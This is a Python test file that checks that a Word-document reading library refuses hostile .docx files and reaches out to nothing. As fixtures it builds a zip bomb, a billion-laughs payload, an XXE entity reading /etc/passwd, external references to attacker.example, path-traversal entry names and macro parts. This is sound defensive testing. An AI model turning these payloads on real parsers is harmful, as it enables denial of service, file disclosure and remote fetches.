"""Documents that somebody made to do harm: refused or read in bounded size and time, and nothing is run or fetched."""

from __future__ import annotations

import io
import socket
import subprocess
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.parsers import expat

import pytest

from casekit.office import package, xml
from casekit.office.pieces import paragraph, words
from casekit.office.reading import opened
from casekit.office.writing import document
from casekit.stop import Stop
from tests.office.editing import packed, parts

PLAIN = document(paragraph(words("Dear all")), "Letter")
MAIN = "word/document.xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def with_main(body: bytes) -> bytes:
    return packed({**parts(PLAIN), MAIN: body})


def body(inside: str, head: str = "") -> bytes:
    return f'{head}<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'.encode()


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)


def named(name: str) -> bytes:
    stream = io.BytesIO(PLAIN)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(name, b"x")
    return stream.getvalue()


def twice() -> bytes:
    stream = io.BytesIO(PLAIN)
    with zipfile.ZipFile(stream, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(MAIN, b"x")
    return stream.getvalue()


def lying() -> bytes:
    """A part that says that it is smaller than it is."""
    raw = bytearray(with_main(body("<w:p/>" * 400_000)))
    at = raw.rindex(MAIN.encode()) - 46
    assert raw[at : at + 4] == b"PK\x01\x02"
    raw[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(raw)


def external(kind: str) -> bytes:
    rels = parts(PLAIN)["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId9" TargetMode="External" Target="http://attacker.example/x" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/></Relationships>'.encode(),
    )
    return packed({**parts(PLAIN), "word/_rels/document.xml.rels": rels})


def types(old: bytes, new: bytes) -> bytes:
    files = parts(PLAIN)
    assert old in files["[Content_Types].xml"]
    return packed({**files, "[Content_Types].xml": files["[Content_Types].xml"].replace(old, new)})


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "a bomb": (lambda: with_main(b"<x>" + b"a" * 40_000_000 + b"</x>"), "it unpacks to far more"),
    "a bomb of blanks": (lambda: with_main(body("<w:p>" + " " * 15_000_000 + "</w:p>")), "it unpacks to far more"),
    "many parts": (
        lambda: packed({**parts(PLAIN), **{f"word/x{n}.xml": b"" for n in range(2_100)}}),
        "it has more parts than any form",
    ),
    "a part that says it is small": (lying, "it is damaged"),
    "a billion laughs": (lambda: with_main(body("<w:p>&j;</w:p>", LAUGHS)), "it declares a document type"),
    "an outside entity": (
        lambda: with_main(body("<w:p>&x;</w:p>", '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        "it declares a document type",
    ),
    "an outside document type": (
        lambda: with_main(body("", '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">')),
        "it declares a document type",
    ),
    "fields thousands deep": (
        lambda: with_main(body("<w:sdt><w:sdtContent>" * 3_000 + "</w:sdtContent></w:sdt>" * 3_000)),
        "its parts stand deeper",
    ),
    "a huge table": (
        lambda: with_main(body("<w:tbl>" + "".join(f'<w:tr x="{n * n:x}"/>' for n in range(260_000)) + "</w:tbl>")),
        "it has more in it",
    ),
    "macros by their part": (lambda: named("word/vbaProject.bin"), "it holds macros"),
    "macros by the kind": (
        lambda: types(b"wordprocessingml.document.main+xml", b"word.document.macroEnabled.main+xml"),
        "it holds macros",
    ),
    "a template": (lambda: types(b"document.main+xml", b"template.main+xml"), "it is not a Word document"),
    "a workbook": (lambda: types(b"wordprocessingml.document", b"spreadsheetml.sheet"), "it is not a Word document"),
    "a name that leads out": (lambda: named("../../evil.xml"), "its parts are not named"),
    "a name from the root": (lambda: named("/etc/passwd"), "its parts are not named"),
    "a name of Windows": (lambda: named("C:\\evil.xml"), "its parts are not named"),
    "a part twice": (twice, "it has more parts than any form, or some of them twice"),
    "half a zip": (lambda: PLAIN[: len(PLAIN) // 2], "it is damaged"),
    "no zip": (lambda: b"Dear all", "it is damaged"),
    "nothing": (lambda: b"", "it is damaged"),
    "an empty zip": (lambda: packed({}), "it is not a Word document"),
    "a password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "it has a password"),
    "XML that is none": (lambda: with_main(b"<w:document"), "it is damaged"),
    "another encoding that is none": (
        lambda: with_main(b'<?xml version="1.0" encoding="x-evil"?><a/>'),
        "it is damaged",
    ),
    "too large": (lambda: b"PK\x03\x04" + b"\0" * (package.MOST + 1), "it is larger than any form"),
    "no main part": (
        lambda: packed({name: raw for name, raw in parts(PLAIN).items() if name != MAIN}),
        "it is not a Word document",
    ),
    "a main part outside": (
        lambda: packed(
            {
                **parts(PLAIN),
                "_rels/.rels": parts(PLAIN)["_rels/.rels"].replace(
                    b'Target="word/document.xml"', b'Target="http://attacker.example/x" TargetMode="External"'
                ),
            }
        ),
        "it is not a Word document",
    ),
}


LONG = ("a huge table", "a bomb")
"""These take a second or more to make."""


@pytest.fixture(autouse=True)
def nothing_is_run_or_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a document made casekit reach out")

    for place, name in ((socket, "socket"), (subprocess, "Popen"), (Path, "open"), (Path, "write_bytes")):
        monkeypatch.setattr(place, name, refuse)


@pytest.mark.parametrize("what", [pytest.param(w, marks=pytest.mark.slow if w in LONG else ()) for w in REFUSED])
def test_refusals(what: str) -> None:
    make, sentence = REFUSED[what]
    raw = make()
    with pytest.raises(Stop) as told:
        opened(raw).read(lambda tag: True)
    assert told.value.sentence.startswith(sentence)
    assert told.value.sentence.count("\n") == 0


@pytest.mark.parametrize("kind", ["image", "attachedTemplate", "frame", "subDocument", "oleObject", "hyperlink"])
def test_what_stands_outside_is_never_asked_for(kind: str) -> None:
    content = opened(external(kind)).read()
    assert [getattr(one, "text", "") for one in content.blocks][:1] == ["Dear all"]


@pytest.mark.slow
@pytest.mark.parametrize("what", REFUSED)
def test_a_refusal_takes_no_more_memory_than_its_bounds_allow(what: str) -> None:
    raw = REFUSED[what][0]()
    tracemalloc.start()
    try:
        with pytest.raises(Stop):
            opened(raw).read(lambda tag: True)
        assert tracemalloc.get_traced_memory()[1] < 40 * package.MOST_PART
    finally:
        tracemalloc.stop()


def test_deep_but_not_too_deep_is_read() -> None:
    deep = "<w:sdt><w:sdtContent>" * 80 + "<w:p><w:r><w:t>here</w:t></w:r></w:p>" + "</w:sdtContent></w:sdt>" * 80
    (one,) = opened(with_main(body(deep))).read().blocks
    assert getattr(one, "text", "") == "here"
    assert xml.DEEPEST < 1000


def test_numbers_that_are_none_and_lists_without_an_end_do_no_harm() -> None:
    odd = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999999"/><w:numId w:val="x"/></w:numPr></w:pPr>'
        '<w:r><w:sym w:char="zz"/><w:sym w:char="D800"/><w:sym w:char="FFFFFFFF"/><w:t>a</w:t></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="begin"><w:ffData><w:ddList>'
        '<w:result w:val="-1"/></w:ddList></w:ffData></w:fldChar><w:t>b</w:t></w:r></w:p>'
        '<w:bookmarkStart w:id="1" w:name="x"/><w:p><w:r><w:t>c</w:t></w:r></w:p>'
    )
    content = opened(with_main(body(odd))).read(lambda tag: True, {"x": "y"})
    assert [getattr(one, "text", "") for one in content.blocks] == ["a", "b", "c"]


def test_the_parser_is_one_that_expands_nothing() -> None:
    assert expat.EXPAT_VERSION >= "expat_2.4"
